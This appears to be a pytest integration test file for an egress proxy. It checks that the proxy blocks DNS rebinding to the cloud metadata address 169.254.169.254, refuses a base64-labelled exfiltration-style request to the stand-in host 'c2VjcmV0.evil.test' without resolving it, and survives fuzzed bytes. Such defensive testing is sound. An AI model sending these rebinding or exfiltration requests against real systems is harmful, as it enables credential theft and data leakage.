"""The proxy run in this process, where the test controls the resolver and reads decisions
directly: DNS rebinding by a resolver whose answer changes, and fuzzing with arbitrary bytes."""

from __future__ import annotations

import asyncio
import ipaddress
from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from egresslock.audit import AuditRecord
from egresslock.policy import compile_policy, parse_policy
from egresslock.policy.normalize import IPAddress
from egresslock.proxy.context import Limits, PolicyHolder, ProxyContext
from egresslock.proxy.resolver import Resolver
from egresslock.proxy.server import ProxyServer, make_listener
from tests.proxy.servers import EchoServer, echo_server, exchange_raw, proxy_in_thread

pytestmark = pytest.mark.integration


class RebindingResolver(Resolver):
    """Answers 127.0.0.1 the first time and the metadata address every time after."""

    def __init__(self) -> None:
        super().__init__()
        self.calls = 0

    async def lookup(self, host: str, port: int) -> tuple[IPAddress, ...]:
        self.calls += 1
        answer = "127.0.0.1" if self.calls == 1 else "169.254.169.254"
        return (ipaddress.ip_address(answer),)


@dataclass
class InProcessProxy:
    port: int
    rows: list[AuditRecord]
    resolver: Resolver
    loop: asyncio.AbstractEventLoop


@pytest.fixture
def running(request: pytest.FixtureRequest) -> Iterator[tuple[InProcessProxy, EchoServer]]:
    with echo_server() as upstream:
        policy = parse_policy(
            "version: 1\nnetwork: {allow_ranges: ['127.0.0.1/32']}\nrules:\n"
            f"  - id: app\n    host: rebind.test\n    ports: [{upstream.port}]\n")
        rows: list[AuditRecord] = []
        resolver = RebindingResolver()
        ctx = ProxyContext(PolicyHolder(None, compile_policy(policy)), rows.append, resolver,
                           Limits(head_timeout=2, idle_timeout=2))
        listener = make_listener("127.0.0.1", 0)
        with proxy_in_thread(ProxyServer(ctx), listener) as loop:
            yield InProcessProxy(listener.getsockname()[1], rows, resolver, loop), upstream
        listener.close()


_get = exchange_raw


def test_dns_rebinding_resolver_changing_answer(running: tuple[InProcessProxy, EchoServer]
                                                ) -> None:
    proxy, upstream = running
    req = (b"GET http://rebind.test:%d/a HTTP/1.1\r\nHost: rebind.test:%d\r\n"
           b"Connection: close\r\n\r\n" % (upstream.port, upstream.port))
    first = _get(proxy.port, req)
    assert first.startswith(b"HTTP/1.1 200")
    second = _get(proxy.port, req)
    assert second.startswith(b"HTTP/1.1 403")
    assert b"169.254.169.254 (link-local)" in second
    # One lookup per request: the address checked is the address dialled.
    assert proxy.resolver.calls == 2  # type: ignore[attr-defined]
    assert [r.verdict for r in proxy.rows] == ["allow", "deny"]
    assert proxy.rows[0].address == "127.0.0.1"
    assert len(upstream.seen) == 1


def test_denied_name_is_never_resolved(running: tuple[InProcessProxy, EchoServer]) -> None:
    proxy, _ = running
    resp = _get(proxy.port, b"GET http://c2VjcmV0.evil.test/ HTTP/1.1\r\nHost: "
                            b"c2VjcmV0.evil.test\r\n\r\n")
    assert resp.startswith(b"HTTP/1.1 403")
    assert proxy.resolver.calls == 0  # type: ignore[attr-defined]


@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.one_of(
    st.binary(max_size=2048),
    st.builds(lambda m, t, h: m + b" " + t + b" HTTP/1.1\r\n" + h + b"\r\n\r\n",
              st.sampled_from([b"GET", b"POST", b"CONNECT", b"PUT", b"X"]),
              st.binary(min_size=0, max_size=80),
              st.binary(max_size=200)),
))
def test_arbitrary_bytes_never_crash_the_proxy(running: tuple[InProcessProxy, EchoServer],
                                               data: bytes) -> None:
    proxy, upstream = running
    before = len(proxy.rows)
    seen_before = len(upstream.seen)
    out = exchange_raw(proxy.port, data, timeout=5)
    if out:
        status = out.split(b" ", 2)[1] if out.startswith(b"HTTP/1.1 ") else b""
        assert status in (b"400", b"403", b"408", b"431"), out[:200]
        # Every answered attempt is one audit row or more (pipelined heads each get one).
        assert len(proxy.rows) > before
        assert all(r.verdict == "deny" for r in proxy.rows[before:])
    assert len(upstream.seen) == seen_before
    # The proxy still serves a normal request afterwards.
    ok = _get(proxy.port, b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n")
    assert ok.startswith(b"HTTP/1.1 403")
